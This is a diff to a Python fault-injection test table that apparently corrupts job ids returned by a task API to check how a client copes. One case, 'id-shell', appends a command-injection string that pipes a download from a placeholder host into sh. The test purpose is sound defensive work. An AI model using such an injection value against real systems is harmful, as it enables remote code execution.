@@ -107,6 +107,19 @@ def _edit(fields: Mapping[str, Any], *, only_with: str = "") -> Change:
     return change
 
 
+def _spoil_id(spoil: Callable[[str], object]) -> Change:
+    """Replace the id of a job by what becomes of it."""
+
+    def change(answer: Answer, asked: Asked) -> Answer | None:
+        data = _data(answer)
+        if data is None:
+            return None
+        data["taskId"] = spoil(data["taskId"])
+        return _with_json(answer, {"code": 200, "msg": "success", "data": data})
+
+    return change
+
+
 def _fail(text: str) -> Change:
     """Report a job as failed, with a text, whatever became of it."""
 
@@ -300,26 +313,34 @@ _ROWS: tuple[NamedFault, ...] = (
         "id-surrogate",
         ("create",),
         "the job's id holds half a surrogate pair",
-        change=_edit({"taskId": "clx\ud800abc"}),
+        change=_spoil_id(lambda job: f"{job[:9]}\ud800{job[9:]}"),
     ),
     NamedFault(
-        "id-nul", ("create",), "the job's id holds NUL", change=_edit({"taskId": "clx\0abc"})
+        "id-nul",
+        ("create",),
+        "the job's id holds NUL",
+        change=_spoil_id(lambda job: f"{job[:9]}\0{job[9:]}"),
     ),
     NamedFault(
         "id-megabyte",
         ("create",),
         "the job's id has a million letters",
-        change=_edit({"taskId": "clx" + "a" * 1_000_000}),
+        change=_spoil_id(lambda job: job + "a" * 1_000_000),
     ),
-    NamedFault("id-list", ("create",), "the job's id is a list", change=_edit({"taskId": ["clx"]})),
     NamedFault(
-        "id-number", ("create",), "the job's id is a number", change=_edit({"taskId": 10**30})
+        "id-list", ("create",), "the job's id is a list", change=_spoil_id(lambda job: [job])
+    ),
+    NamedFault(
+        "id-number",
+        ("create",),
+        "the job's id is a number",
+        change=_spoil_id(lambda job: int(job, 36)),
     ),
     NamedFault(
         "id-shell",
         ("create",),
         "the job's id holds a shell command",
-        change=_edit({"taskId": "clx'; curl https://a.example | sh #$(id)"}),
+        change=_spoil_id(lambda job: f"{job}'; curl https://a.example | sh #$(id)"),
     ),
     NamedFault(
         "failmsg-control",
